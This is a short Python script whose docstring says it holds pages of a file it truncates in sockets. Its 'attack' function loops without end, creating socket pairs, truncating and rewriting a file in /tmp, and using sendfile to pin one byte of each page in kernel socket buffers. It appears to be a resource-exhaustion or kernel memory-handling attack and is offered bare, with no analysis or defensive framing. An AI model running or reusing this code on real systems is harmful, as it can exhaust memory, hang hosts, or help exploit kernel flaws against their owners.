"""Holds pages of a file that it truncates in sockets, a byte of each."""

import os
import socket


def attack(x):
    file, held = os.open("/tmp/file", os.O_RDWR | os.O_CREAT), []
    while True:
        held += socket.socketpair()
        held[-1].setblocking(False)
        try:
            while True:
                os.ftruncate(file, 0)
                os.pwrite(file, bytes(1 << 20), 0)
                for page in range(256):
                    os.sendfile(held[-1].fileno(), file, page << 12, 1)
        except BlockingIOError:
            pass
